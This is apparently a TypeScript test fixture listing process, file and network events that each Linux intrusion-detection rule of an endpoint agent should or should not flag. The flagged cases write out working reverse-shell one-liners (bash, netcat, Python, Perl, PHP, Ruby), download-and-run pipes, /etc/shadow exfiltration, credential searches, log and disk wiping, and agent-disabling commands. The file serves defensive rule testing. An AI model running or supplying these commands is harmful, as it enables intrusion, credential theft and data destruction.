/**
 * Events that each Linux rule must and must not fire on. The second kind are the near misses: what administrators do every day
 * with the same tools.
 */
import type { Event } from '@firebreak/shared/events/event.ts'

export interface RuleCases {
  readonly fires: readonly Event[]
  readonly silent: readonly Event[]
}

const at = '2026-11-24T12:00:00.000Z'
const host = { id: 'a1', name: 'web-1', os: { type: 'linux' } }

/** A process start. The executable is the first word of the command line unless it is given. */
function started(
  command: string,
  executable?: string,
  parent: { executable?: string; command_line?: string } = {},
): Event {
  const program = executable ?? command.split(' ', 1)[0] ?? command
  return {
    '@timestamp': at,
    event: { category: ['process'], type: ['start'], action: 'exec', dataset: 'firebreak.process' },
    host,
    process: {
      pid: 4_242,
      executable: program,
      name: program.slice(program.lastIndexOf('/') + 1),
      command_line: command,
      parent,
    },
  }
}

function shell(command: string): Event {
  return started(`/bin/bash -c ${command}`, '/usr/bin/bash')
}

function written(path: string, action = 'file-written'): Event {
  return {
    '@timestamp': at,
    event: {
      category: ['file'],
      type: [action === 'file-created' ? 'creation' : 'change'],
      action,
      dataset: 'firebreak.file',
    },
    host,
    file: { path },
  }
}

function connected(executable: string, ip: string, direction: 'egress' | 'ingress' = 'egress'): Event {
  return {
    '@timestamp': at,
    event: {
      category: ['network'],
      type: ['connection', 'start'],
      action: 'connection-attempted',
      dataset: 'firebreak.network',
    },
    host,
    process: { executable },
    network: { transport: 'tcp', direction },
    destination: { ip, port: 4_444 },
  }
}

function containment(action: string): Event {
  return {
    '@timestamp': at,
    event: {
      kind: 'alert',
      category: ['intrusion_detection'],
      type: ['change'],
      action,
      dataset: 'firebreak.containment',
    },
    host,
  }
}

/** By the file name of the rule, without `.yml`. */
export const linuxCases: Readonly<Record<string, RuleCases>> = {
  execution_reverse_shell_dev_tcp: {
    fires: [
      shell('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'),
      shell('exec 5<>/dev/tcp/203.0.113.9/443; cat <&5 | while read l; do $l >&5; done'),
      shell('0<&196;exec 196<>/dev/tcp/203.0.113.9/80; sh <&196 >&196 2>&196'),
      shell('exec /bin/sh 0</dev/tcp/203.0.113.9/443 1>&0 2>&0'),
      shell('/bin/sh >& /dev/udp/203.0.113.9/53 0>&1'),
    ],
    silent: [
      // Health checks of containers, as published with their images.
      shell('exec 3<>/dev/tcp/127.0.0.1/9000; echo -e "GET /health/ready HTTP/1.1\\r\\n" >&3; cat <&3 | grep -q UP'),
      started('timeout 1 bash -c </dev/tcp/db.internal/5432 2>&1', '/usr/bin/timeout'),
      shell('while ! (exec 3<>/dev/tcp/db/5432) 2>&1; do sleep 1; done; ssh -i key eve@db'),
      shell('(echo > /dev/tcp/db.internal/5432) 2>&1 && echo open'),
      started('/usr/bin/grep -r /dev/tcp/ /usr/share/doc'),
    ],
  },
  execution_reverse_shell_netcat: {
    fires: [
      started('nc 203.0.113.9 4444 -e /bin/sh', '/usr/bin/nc.traditional'),
      started('ncat --exec /bin/bash 203.0.113.9 4444', '/usr/bin/ncat'),
      shell('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f'),
    ],
    silent: [started('nc -vz db.internal 5432', '/usr/bin/nc'), started('nc -l -p 9000', '/usr/bin/nc.openbsd')],
  },
  execution_reverse_shell_netcat_shell: {
    fires: [
      started('nc 203.0.113.9 4444 -e /bin/sh', '/usr/bin/nc.traditional'),
      started('nc -e/bin/bash 203.0.113.9 4444', '/usr/bin/nc.traditional'),
      started('ncat -lvp 4444 -c sh', '/usr/bin/ncat'),
      started('ncat --sh-exec=/bin/bash 203.0.113.9 4444', '/usr/bin/ncat'),
      started('busybox nc 203.0.113.9 4444 -e sh', '/bin/busybox'),
      shell('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f'),
    ],
    silent: [
      started('ncat --exec /usr/local/bin/echo-server -l 7', '/usr/bin/ncat'),
      started('nc -l -p 9000 -c /opt/test/answer.sh', '/usr/bin/nc.traditional'),
      started('nc -vz db.internal 5432', '/usr/bin/nc'),
    ],
  },
  execution_reverse_shell_one_liner: {
    fires: [
      started(
        `python3 -c import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")`,
        '/usr/bin/python3.11',
      ),
      started(
        `python -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])`,
        '/usr/bin/python3.11',
      ),
      started(`perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,">&S");exec("sh -i")`, '/usr/bin/perl'),
      started(
        'perl -MIO -e $c=new IO::Socket::INET(PeerAddr,"203.0.113.9:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;',
        '/usr/bin/perl',
      ),
      started(`php -r $s=fsockopen("203.0.113.9",4444);exec("sh <&3 >&3 2>&3");`, '/usr/bin/php8.2'),
      started(
        'ruby -rsocket -e f=TCPSocket.open("203.0.113.9",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)',
        '/usr/bin/ruby3.1',
      ),
    ],
    silent: [
      started('python3 -c import socket,subprocess;subprocess.run(["ip","a"]);socket.create_connection(("db",5432))'),
      started('python3 -c import socket;s=socket.socket();s.connect(("db",5432));print("pushed")'),
      started('python3 /opt/socket_connect_dup2.py', '/usr/bin/python3.11'),
      started('ruby -rsocket -e puts TCPSocket.open("db",5432)', '/usr/bin/ruby3.1'),
    ],
  },
  execution_reverse_shell_interpreter: {
    fires: [
      started(
        `python3 -c import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")`,
        '/usr/bin/python3.11',
      ),
      started(`perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,">&S");exec("sh -i")`, '/usr/bin/perl'),
      started(`php -r $s=fsockopen("203.0.113.9",4444);exec("sh <&3 >&3 2>&3");`, '/usr/bin/php8.2'),
    ],
    silent: [
      started('python3 -c import socket;print(socket.gethostname())', '/usr/bin/python3.11'),
      started('python3 /usr/bin/supervisord -n', '/usr/bin/python3.11'),
    ],
  },
  execution_download_piped_to_shell: {
    fires: [
      shell('curl -fsSL http://203.0.113.9/x.sh | bash'),
      shell('wget -qO- http://203.0.113.9/x | sudo sh'),
      shell('bash <(curl -s http://203.0.113.9/x)'),
      shell('curl -s http://203.0.113.9/x.py | python3 -'),
    ],
    silent: [
      shell('curl -fsSL https://deb.debian.org/debian/dists/stable/Release | grep Date'),
      shell('curl -s https://example.org | sha256sum'),
      started('/usr/bin/wget https://example.org/archive.tar.gz'),
    ],
  },
  execution_base64_piped_to_shell: {
    fires: [
      shell('echo aWQK | base64 -d | bash'),
      shell('echo aWQK|base64 --decode|sh'),
      shell('eval "$(echo aWQK | base64 -d)"'),
    ],
    silent: [shell('echo aWQK | base64 -d > /tmp/out'), started('/usr/bin/base64 -w0 /etc/hostname')],
  },
  execution_from_world_writable_folder: {
    fires: [started('/tmp/.x/kworker'), started('./a', '/dev/shm/a'), started('/var/tmp/update --daemon')],
    silent: [started('/tmp/go-build1234/b001/exe/main'), started('/usr/bin/ls /tmp/')],
  },
  execution_from_memory: {
    fires: [started('[kworker/0:1]', '/memfd:x (deleted)'), started('/proc/self/fd/3 -d', '/proc/self/fd/3')],
    silent: [
      started('runc init', '/memfd:runc_cloned:/proc/self/exe (deleted)'),
      started('/usr/bin/ls /proc/self/fd/'),
    ],
  },
  initial_access_web_server_shell: {
    fires: [
      started('sh -c id', '/usr/bin/dash', { executable: '/usr/sbin/apache2' }),
      started('sh -c whoami', '/bin/sh', { executable: '/usr/sbin/php-fpm8.2' }),
      started('bash -c id', '/usr/bin/bash', {
        executable: '/usr/lib/jvm/java-17/bin/java',
        command_line: 'java org.apache.catalina.startup.Bootstrap start',
      }),
    ],
    silent: [
      started('sh -c id', '/usr/bin/dash', { executable: '/usr/sbin/cron' }),
      started('/usr/sbin/apache2 -k start', '/usr/sbin/apache2', { executable: '/usr/sbin/apache2' }),
      started('sh -c id', '/bin/sh', {
        executable: '/usr/lib/jvm/java-17/bin/java',
        command_line: 'java -jar build.jar',
      }),
    ],
  },
  persistence_cron_file: {
    fires: [
      written('/etc/cron.d/update', 'file-created'),
      written('/var/spool/cron/crontabs/root'),
      written('/etc/crontab'),
    ],
    silent: [written('/etc/cron.d/e2scrub_all.dpkg-new', 'file-created'), written('/etc/cronie.conf')],
  },
  persistence_systemd_unit: {
    fires: [
      written('/etc/systemd/system/dbus-helper.service', 'file-created'),
      written('/home/eve/.config/systemd/user/sync.timer', 'file-created'),
    ],
    silent: [
      written('/etc/systemd/system/multi-user.target.wants/cron.service', 'file-created'),
      written('/etc/systemd/system/firebreak-agent.service'),
      written('/etc/systemd/system.conf'),
    ],
  },
  persistence_shell_profile: {
    fires: [written('/home/eve/.bashrc'), written('/etc/profile.d/z.sh', 'file-created'), written('/root/.profile')],
    silent: [written('/etc/skel/.bashrc'), written('/home/eve/project/profile')],
  },
  persistence_ld_so_preload: {
    fires: [written('/etc/ld.so.preload', 'file-created')],
    silent: [written('/etc/ld.so.conf'), written('/etc/ld.so.cache')],
  },
  persistence_ssh_authorized_keys: {
    fires: [written('/root/.ssh/authorized_keys'), written('/home/eve/.ssh/authorized_keys2', 'file-created')],
    silent: [written('/home/eve/.ssh/known_hosts'), written('/home/eve/.ssh/config')],
  },
  persistence_privileged_account: {
    fires: [
      started('useradd -o -u 0 -g 0 -M sys', '/usr/sbin/useradd'),
      started('usermod -aG sudo eve', '/usr/sbin/usermod'),
      started('gpasswd -a eve docker', '/usr/bin/gpasswd'),
    ],
    silent: [
      started('useradd -m -u 1001 eve', '/usr/sbin/useradd'),
      started('usermod -aG audio eve', '/usr/sbin/usermod'),
      started('adduser --system --group disk', '/usr/sbin/adduser'),
    ],
  },
  privilege_escalation_sudoers_changed: {
    fires: [written('/etc/sudoers.d/eve', 'file-created'), written('/etc/sudoers')],
    silent: [written('/etc/sudoers.d/README'), written('/etc/sudo.conf')],
  },
  privilege_escalation_setuid_bit: {
    fires: [
      started('chmod u+s /tmp/rootbash', '/usr/bin/chmod'),
      started('chmod 4755 /usr/bin/bash', '/usr/bin/chmod'),
      started('chmod +s /usr/bin/find', '/usr/bin/chmod'),
    ],
    silent: [
      started('chmod 0755 /tmp/tool', '/usr/bin/chmod'),
      started('chmod -R u+rwX /home/eve', '/usr/bin/chmod'),
      started('chmod 4755 /usr/lib/openssh/ssh-keysign', '/usr/bin/chmod'),
    ],
  },
  privilege_escalation_container_escape: {
    fires: [
      started('nsenter -t 1 -m -u -i -n sh', '/usr/bin/nsenter'),
      started('docker run --rm -it -v /:/host alpine chroot /host', '/usr/bin/docker'),
      started('docker run --privileged -d image', '/usr/bin/docker'),
    ],
    silent: [
      started('nsenter -t 1234 -n ip addr', '/usr/bin/nsenter'),
      started('docker run --rm -v /srv/data:/data alpine ls', '/usr/bin/docker'),
    ],
  },
  credential_access_shadow_read: {
    fires: [
      started('cat /etc/shadow', '/usr/bin/cat'),
      started('cp /etc/shadow /tmp/.s', '/usr/bin/cp'),
      started('john --wordlist=w.txt shadow.txt', '/usr/sbin/john'),
    ],
    silent: [
      started('cat /etc/passwd', '/usr/bin/cat'),
      started('passwd eve', '/usr/bin/passwd'),
      started('cp -p /etc/shadow /var/backups/shadow.bak', '/usr/bin/cp', {
        command_line: '/bin/sh /etc/cron.daily/passwd',
      }),
    ],
  },
  credential_access_key_search: {
    fires: [
      started('find / -name id_rsa -o -name *.pem', '/usr/bin/find'),
      started('grep -rni password /var/www', '/usr/bin/grep'),
      started('cat /home/eve/.aws/credentials', '/usr/bin/cat'),
    ],
    silent: [started('find /var/www -name *.php', '/usr/bin/find'), started('grep root /etc/passwd', '/usr/bin/grep')],
  },
  credential_access_process_memory: {
    fires: [started('gcore -o /tmp/c 812', '/usr/bin/gcore'), started('dd if=/proc/812/mem of=/tmp/m', '/usr/bin/dd')],
    silent: [started('cat /proc/meminfo', '/usr/bin/cat'), started('dd if=/dev/zero of=/tmp/m count=1', '/usr/bin/dd')],
  },
  defense_evasion_kernel_module: {
    fires: [started('insmod /tmp/diamorphine.ko', '/usr/sbin/insmod'), started('insmod rootkit.ko', '/usr/bin/kmod')],
    silent: [started('modprobe nf_tables', '/usr/sbin/modprobe'), started('lsmod', '/usr/bin/kmod')],
  },
  defense_evasion_history_tampering: {
    fires: [
      shell('unset HISTFILE; id'),
      shell('history -c'),
      started('ln -sf /dev/null /root/.bash_history', '/usr/bin/ln'),
    ],
    silent: [shell('history | tail'), started('cat /root/.bash_history', '/usr/bin/cat')],
  },
  defense_evasion_log_removal: {
    fires: [
      started('rm -f /var/log/auth.log', '/usr/bin/rm'),
      started('rm -rf /var/log/*', '/usr/bin/rm'),
      shell('cat /dev/null > /var/log/wtmp'),
      started('journalctl --vacuum-time=1s', '/usr/bin/journalctl'),
    ],
    silent: [
      started('rm /var/log/myapp/debug.1.gz', '/usr/bin/rm'),
      started('journalctl --vacuum-time=30d', '/usr/bin/journalctl'),
      started('rm -f /var/log/syslog.7.gz', '/usr/bin/rm', { executable: '/usr/sbin/logrotate' }),
    ],
  },
  defense_evasion_agent_stopped: {
    fires: [
      started('systemctl stop firebreak-agent', '/usr/bin/systemctl'),
      started('pkill -9 firebreak-agent', '/usr/bin/pkill'),
      started('apt-get remove -y firebreak-agent', '/usr/bin/apt-get'),
      started('rm -rf /var/lib/firebreak-agent', '/usr/bin/rm'),
      started('systemctl disable --now firebreak-agent.service', '/usr/bin/systemctl'),
      started('killall firebreak-agent', '/usr/bin/killall'),
      started('pkill -f firebreak', '/usr/bin/pkill'),
      started('dpkg --purge firebreak-agent:amd64', '/usr/bin/dpkg'),
      started('systemctl stop firebreak-agent', '/usr/bin/systemctl', {
        executable: '/usr/bin/dash',
        command_line: '/bin/sh /var/lib/dpkg/info/updates.postinst configure 1.0',
      }),
      started('systemctl stop firebreak-agent', '/usr/bin/systemctl', {
        executable: '/usr/bin/dash',
        command_line: 'sh -c systemctl stop firebreak-agent; : /var/lib/dpkg/info/firebreak-agent.prerm upgrade 0.2.0',
      }),
    ],
    silent: [
      started('systemctl status firebreak-agent', '/usr/bin/systemctl'),
      started('systemctl restart firebreak-agent', '/usr/bin/systemctl'),
      started('systemctl stop nginx', '/usr/bin/systemctl'),
      started('pkill -f /home/eve/firebreak/test/e2e/fleet.ts', '/usr/bin/pkill'),
      started('rm -rf /tmp/firebreak-test-1/etc/firebreak', '/usr/bin/rm'),
      started('apt-get remove -y firebreak-agent-docs', '/usr/bin/apt-get'),
      started('systemctl stop firebreak-agent.service', '/usr/bin/systemctl', {
        executable: '/usr/bin/dash',
        command_line: '/bin/sh /var/lib/dpkg/info/firebreak-agent.prerm upgrade 0.2.0',
      }),
    ],
  },
  defense_evasion_host_firewall_off: {
    fires: [
      started('nft flush ruleset', '/usr/sbin/nft'),
      started('iptables -F', '/usr/sbin/xtables-nft-multi'),
      started('systemctl stop nftables', '/usr/bin/systemctl'),
      started('ufw --force disable', '/usr/sbin/ufw'),
    ],
    silent: [
      started('nft list ruleset', '/usr/sbin/nft'),
      started('iptables -A INPUT -p tcp --dport 22 -j ACCEPT', '/usr/sbin/iptables'),
      started('systemctl status nftables', '/usr/bin/systemctl'),
    ],
  },
  defense_evasion_isolation_undone: {
    fires: [containment('isolation-drift')],
    silent: [containment('isolation-applied'), started('/usr/bin/echo isolation-drift')],
  },
  command_and_control_shell_connects_out: {
    fires: [connected('/usr/bin/bash', '203.0.113.9'), connected('/bin/sh', '2001:db8::9')],
    silent: [
      connected('/usr/bin/bash', '127.0.0.1'),
      connected('/usr/bin/bash', '203.0.113.9', 'ingress'),
      connected('/usr/bin/curl', '203.0.113.9'),
    ],
  },
  command_and_control_tunnel: {
    fires: [
      started('ssh -fN -R 2222:localhost:22 eve@203.0.113.9', '/usr/bin/ssh'),
      started('./chisel client 203.0.113.9:8080 R:socks', '/home/eve/chisel'),
      started('socat TCP:203.0.113.9:443 EXEC:/bin/sh', '/usr/bin/socat'),
    ],
    silent: [
      started('ssh -L 5432:db:5432 eve@bastion', '/usr/bin/ssh'),
      started('socat TCP-LISTEN:80,fork TCP:10.0.0.2:80', '/usr/bin/socat'),
    ],
  },
  exfiltration_upload_by_tool: {
    fires: [
      started('curl -T /tmp/db.tgz https://203.0.113.9/up', '/usr/bin/curl'),
      started('curl -F file=@/etc/shadow https://203.0.113.9/', '/usr/bin/curl'),
      started('rclone copy /srv remote:bucket', '/usr/bin/rclone'),
    ],
    silent: [
      started('curl -s https://example.org/file -o /tmp/f', '/usr/bin/curl'),
      started('rclone ls remote:bucket', '/usr/bin/rclone'),
    ],
  },
  impact_crypto_miner: {
    fires: [
      started('/tmp/.x/xmrig -o pool:3333', '/tmp/.x/xmrig'),
      started('./sysd -o stratum+tcp://203.0.113.9:3333 -u w', '/home/eve/sysd'),
    ],
    silent: [started('/usr/bin/stress-ng --cpu 2'), started('/usr/sbin/named -u bind')],
  },
  impact_mass_encryption: {
    fires: [
      shell('find /srv -type f -exec openssl enc -aes-256-cbc -pass pass:x -in {} -out {}.enc ;'),
      shell('for f in /srv/*; do gpg --batch -c --passphrase x $f; rm $f; done'),
    ],
    silent: [
      started('openssl enc -aes-256-cbc -in backup.tar -out backup.tar.enc', '/usr/bin/openssl'),
      shell('for f in *.gz; do gunzip $f; done'),
    ],
  },
  impact_disk_wiped: {
    fires: [
      started('dd if=/dev/zero of=/dev/sda bs=1M', '/usr/bin/dd'),
      started('rm -rf --no-preserve-root /', '/usr/bin/rm'),
      started('rm -rf /*', '/usr/bin/rm'),
      started('shred -n 1 /dev/nvme0n1', '/usr/bin/shred'),
    ],
    silent: [
      started('dd if=/dev/sda of=/srv/backup.img', '/usr/bin/dd'),
      started('rm -rf /tmp/build', '/usr/bin/rm'),
      started('shred -u /home/eve/secret.txt', '/usr/bin/shred'),
    ],
  },
  credential_access_pam_changed: {
    fires: [
      written('/etc/pam.d/sshd'),
      written('/etc/pam.d/su-l', 'file-created'),
      written('/usr/lib/x86_64-linux-gnu/security/pam_evil.so', 'file-created'),
    ],
    silent: [
      written('/etc/pam.d/common-auth.pam-new', 'file-created'),
      written('/etc/pam.d/cron.dpkg-new', 'file-created'),
      written('/etc/pam.conf.md'),
    ],
  },
  defense_evasion_audit_off: {
    fires: [
      started('auditctl -e 0', '/usr/sbin/auditctl'),
      started('auditctl -D', '/usr/sbin/auditctl'),
      started('systemctl stop rsyslog', '/usr/bin/systemctl'),
      started('service auditd stop', '/usr/sbin/service'),
      started('setenforce 0', '/usr/sbin/setenforce'),
    ],
    silent: [
      started('auditctl -l', '/usr/sbin/auditctl'),
      started('auditctl -e 1', '/usr/sbin/auditctl'),
      started('systemctl restart rsyslog', '/usr/bin/systemctl'),
      started('systemctl status auditd', '/usr/bin/systemctl'),
      started('systemctl stop nginx', '/usr/bin/systemctl'),
      started('setenforce 1', '/usr/sbin/setenforce'),
    ],
  },
  defense_evasion_root_certificate: {
    fires: [
      written('/usr/local/share/ca-certificates/rootCA.crt', 'file-created'),
      written('/etc/pki/ca-trust/source/anchors/proxy.pem', 'file-created'),
    ],
    silent: [written('/etc/ssl/certs/ca-certificates.crt'), written('/etc/nginx/tls/site.crt', 'file-created')],
  },
  credential_access_service_account_token: {
    fires: [
      started('cat /run/secrets/kubernetes.io/serviceaccount/token', '/usr/bin/cat'),
      started('curl -H @/var/run/secrets/kubernetes.io/serviceaccount/token https://kubernetes', '/usr/bin/curl'),
    ],
    silent: [
      started('/usr/local/bin/controller --token-file /var/run/secrets/kubernetes.io/serviceaccount/token'),
      started('cat /run/secrets/db_password', '/usr/bin/cat'),
    ],
  },
  credential_access_password_search: {
    fires: [
      started('grep -ri password /', '/usr/bin/grep'),
      started('grep -rnw /etc -e passwd /etc', '/usr/bin/grep'),
      started('find /home -type f -name .netrc', '/usr/bin/find'),
      started('find / -name accessTokens.json -type f', '/usr/bin/find'),
    ],
    silent: [
      started('grep -i password README.md', '/usr/bin/grep'),
      started('grep -r listen /etc/nginx', '/usr/bin/grep'),
      started('grep -rn password_field src', '/usr/bin/grep'),
      started('find /var/log -name *.gz', '/usr/bin/find'),
    ],
  },
  discovery_network_scan: {
    fires: [
      started('nmap -sS 192.168.1.0/24 -p 80', '/usr/bin/nmap'),
      started('/tmp/masscan -p1-65535 10.0.0.0/8'),
      shell('for port in {1..1024}; do (echo >/dev/tcp/192.168.1.1/$port) && echo $port; done'),
    ],
    silent: [
      started('nmap --version', '/usr/bin/nmap'),
      started('nmcli device status', '/usr/bin/nmcli'),
      shell('for i in {1..5}; do echo $i; done'),
    ],
  },
  credential_access_network_sniffing: {
    fires: [
      started('tcpdump -c 5 -nnni ens33', '/usr/bin/tcpdump'),
      started('tshark -c 5 -i ens33', '/usr/bin/tshark'),
    ],
    silent: [
      started('tcpdump --version', '/usr/bin/tcpdump'),
      started('tcpdump -nn -r capture.pcap', '/usr/bin/tcpdump'),
      started('tcptrack -i eth0', '/usr/bin/tcptrack'),
    ],
  },
  defense_evasion_compile_after_delivery: {
    fires: [
      started('gcc -o /tmp/x /tmp/exploit.c', '/usr/bin/gcc'),
      started('g++-12 /dev/shm/a.cc', '/usr/bin/g++-12'),
      started('cc exploit.c -o /var/tmp/.x', '/usr/bin/cc'),
    ],
    silent: [
      started('gcc -o build/main src/main.c', '/usr/bin/gcc'),
      started('gcc -c /tmp/conftest123.c', '/usr/bin/gcc'),
      started('clang -c src/a.c -o /tmp/cmake-build/a.o', '/usr/bin/clang'),
      started('gccgo-check /tmp/x.go', '/usr/bin/gccgo-check'),
    ],
  },
}
